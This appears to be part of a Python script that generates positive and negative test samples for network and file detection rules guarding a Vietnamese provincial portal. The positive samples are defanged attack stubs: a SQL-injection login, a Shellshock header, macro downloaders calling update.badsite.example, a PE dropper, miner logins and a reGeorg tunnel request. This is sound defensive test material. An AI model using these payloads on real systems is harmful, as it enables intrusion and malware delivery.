pos('http-sqli-tautology.txt', ['exploit_sqli_tautology'], http_request('''
POST /quantri/dangnhap.php HTTP/1.1
Host: congthongtin.tinh.example
Content-Type: application/x-www-form-urlencoded
Content-Length: 52''', 'username=admin%27+or+%271%27%3D%271&password=haidang'))

pos('http-shellshock.txt', ['exploit_shellshock'], http_request('''
GET /cgi-bin/status HTTP/1.1
Host: congthongtin.tinh.example
User-Agent: () { :; }; echo; /bin/echo haidang-test
Accept: */*'''))

# --- Office and PE -----------------------------------------------------------------
DOWNLOADER_VBA = vba_project('ThisDocument', MACRO_DOWNLOADER,
                             ['ThisDocument', 'AutoOpen', 'URLDownloadToFileA', 'Shell', 'Environ'],
                             ['urlmon', 'http://update.badsite.example/haidang-test.txt',
                              'TEMP', '\\haidang-test.txt', 'notepad.exe '])
pos('macro-downloader.doc', ['malware_office_macro_downloader'], word_doc(DOWNLOADER_VBA))
pos('macro-downloader-vbaProject.bin', ['malware_office_macro_downloader'],
    make_cfb({'VBA': DOWNLOADER_VBA, 'PROJECT': b'Document=ThisDocument/&H00000000\r\n'}))
pos('macro-autorun-shell.xls', ['malware_office_macro_autorun_shell'], excel_xls(
    vba_project('ThisWorkbook', MACRO_SHELL, ['ThisWorkbook', 'Workbook_Open', 'CreateObject', 'Run'],
                ['WScript.Shell', 'cmd.exe /c echo haidang-test'])))
pos('macro-enabled.docm', ['policy_office_ooxml_with_macros'], docx(macro=True))

dropper = make_pe(imports={'kernel32.dll': ['WinExec', 'ExitProcess'],
                           'urlmon.dll': ['URLDownloadToFileA']})
pos('http-pe-dropper.txt', ['malware_pe_download_execute_imports'], http_response('''
HTTP/1.1 200 OK
Server: nginx
Content-Type: application/octet-stream''', dropper))

plain_pe = make_pe(imports={'kernel32.dll': ['ExitProcess', 'GetModuleHandleA']})
pos('http-pe-as-png.txt', ['malware_pe_disguised_as_document'], http_response('''
HTTP/1.1 200 OK
Server: nginx
Content-Type: image/png''', plain_pe))

pos('http-dll-attachment.txt', ['malware_dll_served_as_attachment'], http_response('''
HTTP/1.1 200 OK
Server: Apache
X-Powered-By: PHP/5.6.40
Content-Disposition: attachment; filename="Hoa-don-T11.dll"
Content-Transfer-Encoding: binary
Content-Type: application/x-msdownload''',
    make_pe(imports={'kernel32.dll': ['ExitProcess']}, is_dll=True, exports=['DllRegisterServer'],
            dll_name='invoice.dll')))

# --- scanning, mining, tunnelling ------------------------------------------------
pos('http-sqlmap-ua.txt', ['scanning_tool_user_agent'], http_request('''
GET /tin-tuc/chi-tiet.php?id=15 HTTP/1.1
Host: congthongtin.tinh.example
User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)
Accept: */*'''))

pos('stratum-subscribe.txt', ['mining_stratum_protocol'],
    '{"id": 1, "method": "mining.subscribe", "params": ["cgminer/4.10.0"]}\n'
    '{"id": 2, "method": "mining.authorize", "params": ["haidangtest.worker1", "x"]}\n')

pos('xmrig-login.txt', ['mining_stratum_protocol'],
    '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"haidang-test-wallet",'
    '"pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",'
    '"algo":["rx/0","cn/r"]}}\n')

pos('http-regeorg.txt', ['tunnelling_regeorg'], http_request('''
POST /uploads/tunnel.jsp?cmd=connect&target=10.10.1.5&port=3389 HTTP/1.1
Host: congthongtin.tinh.example
X-CMD: CONNECT
X-TARGET: 10.10.1.5
X-PORT: 3389
Content-Length: 0''') + b'HTTP/1.1 200 OK\r\nX-STATUS: OK\r\n\r\n')

# ==========================================================================
# Negative samples: benign traffic a provincial portal sees every day, with
# the words the rules are built from used innocently.

neg('portal-index.html', http_response('''
HTTP/1.1 200 OK
Server: nginx
Content-Type: text/html; charset=utf-8''', '''<!DOCTYPE html>
<html lang="vi"><head><meta charset="utf-8">
<title>Cổng thông tin điện tử tỉnh - Trang chủ</title>
<style>
.footer { background-color: black; color: #ccc; }
.tin-moi { font-weight: bold; }
</style>
<script>
function sleep(ms) { return new Promise(r => setTimeout(r, ms)); }
async function chay() { await sleep(1000); document.getElementById('gio').textContent = new Date(); }
var cauHinh = JSON.parse('{"union":"Liên minh","select":"Chọn"}');
</script>
</head><body>
<marquee behavior="scroll" direction="left"><b>Chào mừng kỷ niệm 79 năm Quốc khánh 2/9!</b></marquee>
<h1>Cổng thông tin điện tử tỉnh</h1>
<div class="tin-moi"><h2>Tin mới</h2>
<p>Sở Thông tin và Truyền thông cảnh báo: một số website bị tấn công, hiển thị dòng chữ
"hacked by" kèm hình ảnh lạ; đề nghị các đơn vị rà soát, vá lỗ hổng và báo cáo về CSIRT tỉnh.</p>
<p>Hướng dẫn nộp hồ sơ trực tuyến: chọn (select) thủ tục, điền mẫu, ký số và gửi.</p>
<p>Greetings from the Provincial People's Committee to all visitors.</p>
</div>
<iframe src="https://www.youtube.com/embed/abcdEFGhijk" allowfullscreen></iframe>
<div class="footer">Bản quyền thuộc UBND tỉnh. Địa chỉ: 01 đường Trần Hưng Đạo.</div>
</body></html>
'''))

neg('news-defacement-report.html', '''<!DOCTYPE html>
<html lang="vi"><head><meta charset="utf-8">
<title>Cảnh báo chiến dịch tấn công thay đổi giao diện website cơ quan nhà nước</title></head>
<body style="background:#fff">
<h1>Cảnh báo chiến dịch tấn công thay đổi giao diện</h1>
<p>Trong tuần qua, nhiều trang bị thay giao diện bằng nội dung "Hacked by ..." và nhạc nền tự phát.
Nhóm tấn công thường để lại lời "greetz" và dòng chữ "your security is low".</p>
<p>Khuyến nghị: cập nhật CMS, đổi mật khẩu quản trị, chặn tải lên tệp .php trong thư mục uploads.</p>
<pre>Ví dụ dấu hiệu trong nhật ký: GET /uploads/shell.php 200</pre>
</body></html>
''')

neg('php-contact-form.php', '''<?php
// Biểu mẫu liên hệ: dùng $_POST an toàn (lọc, câu lệnh chuẩn bị sẵn)
declare(strict_types=1);
require __DIR__ . '/config.php';

$ten = filter_input(INPUT_POST, 'ten', FILTER_SANITIZE_SPECIAL_CHARS) ?? '';
$email = filter_var($_POST['email'] ?? '', FILTER_VALIDATE_EMAIL);
$noidung = trim((string)($_POST['noidung'] ?? ''));

if ($_SERVER['REQUEST_METHOD'] === 'POST' && $email) {
    $pdo = new PDO($dsn, $user, $pass, [PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION]);
    $st = $pdo->prepare('INSERT INTO lienhe (ten, email, noidung) VALUES (?, ?, ?)');
    $st->execute([$ten, $email, $noidung]);
    // ảnh đính kèm: chỉ nhận JPEG/PNG, đổi tên
    if (!empty($_FILES['anh']['tmp_name'])) {
        $loai = mime_content_type($_FILES['anh']['tmp_name']);
        if (in_array($loai, ['image/jpeg', 'image/png'], true)) {
            $ten_moi = bin2hex(random_bytes(8)) . ($loai === 'image/png' ? '.png' : '.jpg');
            move_uploaded_file($_FILES['anh']['tmp_name'], UPLOAD_DIR . '/' . $ten_moi);
            exec('convert ' . escapeshellarg(UPLOAD_DIR . '/' . $ten_moi) . ' -strip out.jpg');
        }
    }
    echo 'Cảm ơn ' . htmlspecialchars($ten, ENT_QUOTES, 'UTF-8') . '!';
}
$tpl = file_get_contents(__DIR__ . '/mau.tpl');
$cache = base64_decode($_COOKIE['gio_hang'] ?? '', true);
$data = json_decode(gzinflate(base64_decode($cachedBlob)), true);
?>
''')

neg('api-response.json', http_response('''
HTTP/1.1 200 OK
Content-Type: application/json; charset=utf-8''', '''{"ketqua":"thanhcong","dulieu":[
{"id":1,"ten":"Nguyễn Văn A","donvi":"Sở Tài chính","vaitro":"admin"},
{"id":2,"ten":"Trần Thị B","donvi":"Sở Nội vụ","ghichu":"Sleep(5) trong báo cáo là lỗi cũ"},
{"id":3,"truyvan":"SELECT id, ten FROM canbo WHERE donvi = ? UNION SELECT id, ten FROM hopdong","mau":"${env:HOME}/bao-cao"}],
"phantrang":{"trang":1,"tong":3},"thoigian":"2024-11-27T08:00:00+07:00"}
'''))

neg('http-normal-requests.txt',
    http_request('''
GET /tim-kiem?q=european+union+select+committee&trang=2 HTTP/1.1
Host: congthongtin.tinh.example
User-Agent: %s
Cookie: _ga=GA1.2.1234567890.1700000000; phien=eyJhbGciOiJIUzI1NiJ9eyJzdWIiOiJjYW5ibzAxIiwiZXhwIjoxNzAwMDAwMDAwfQabcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefghijkl
Accept: text/html''' % UA_CHROME)
    + http_request('''
GET /pixel.gif HTTP/1.1
Host: thongke.tinh.example
Cookie: vid=8f3a2b1c; lang=vi
Accept: image/*''')
    + http_request('''
GET /tin-tuc/../gioi-thieu/co-cau-to-chuc.html?q=sleep+apnea+or+1+2 HTTP/1.1
Host: congthongtin.tinh.example
Accept: */*''')
    + http_request('''
POST /dangnhap HTTP/1.1
Host: congthongtin.tinh.example
Content-Type: application/x-www-form-urlencoded
Content-Length: 44''', 'tendangnhap=canbo01&matkhau=Thu%40nTien2024!'))

neg('document.pdf', make_pdf())
neg('http-pdf-download.txt', http_response('''
HTTP/1.1 200 OK
Content-Type: application/pdf''', make_pdf()))
neg('report.docx', docx(macro=False))
neg('legacy.doc', word_doc())
neg('macro-benign.xls', excel_xls(
    vba_project('Module1', MACRO_BENIGN, ['Module1', 'TinhTong', 'Selection', 'MsgBox'], ['Tong: '])))
neg('http-setup-download.txt', http_response('''
HTTP/1.1 200 OK
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="PhanMemKySo-Setup.exe"''',
    make_pe(imports={'kernel32.dll': ['ExitProcess', 'GetModuleHandleA', 'CreateFileW'],
                     'user32.dll': ['MessageBoxW']})))
neg('http-png.txt', http_response('''
HTTP/1.1 200 OK
Content-Type: image/png''', make_png()))
neg('app-config.properties', '''# cấu hình ứng dụng dịch vụ công (log4j2 và Spring)
server.port=${PORT:8080}
spring.datasource.url=jdbc:postgresql://${DB_HOST:localhost}:5432/dichvucong
logging.file.path=${sys:user.home}/logs
appender.file.fileName=${env:LOG_DIR}/app.log
appender.file.filePattern=${env:LOG_DIR}/app-%d{yyyy-MM-dd}.log.gz
java.naming.provider.url=ldap://ldap.tinh.example:389/dc=tinh,dc=example
''')
neg('deploy.sh', '''#!/bin/bash
# triển khai cổng thông tin: sao lưu, cập nhật, khởi động lại
set -euo pipefail
cleanup() { :; }
trap cleanup EXIT
noop() { true; }
BACKUP=/var/backups/portal-$(date +%F).tar.gz
tar -czf "$BACKUP" /var/www/portal
cat /etc/passwd | cut -d: -f1 | grep -q www-data || useradd -r www-data
rsync -a --delete build/ /var/www/portal/
systemctl reload nginx
''')
neg('app.min.js', 'var a=function(t){return new Promise(function(e){setTimeout(e,t)})};'
    'function sleep(t){return a(t)}window.select=function(e){return document.querySelector(e)};'
    'var u={union:function(a,b){return a.concat(b)},exec:function(r,s){return r.exec(s)}};'
    'if(window.execScript){window.execScript("1")}else{eval("1")};'
    'fetch("/api/tim-kiem?q="+encodeURIComponent("union select"))'
    '.then(function(r){return r.json()});$(".nut").on("click",function(){$.post("/dangnhap",{t:1})});\n')
neg('stream-binary.bin', pseudo_random(65536, 99))

# --------------------------------------------------------------------------
with open(os.path.join(HERE, 'expected.tsv'), 'w') as f:
    f.write('# sample\trules it must trigger (exactly), "-" for none. Written by make-samples.py\n')
    for path, rules in sorted(expected):
        f.write('%s\t%s\n' % (path, ','.join(sorted(rules)) if rules else '-'))
print('%d positive, %d negative samples' % (sum(1 for _, r in expected if r),
                                             sum(1 for _, r in expected if not r)), file=sys.stderr)
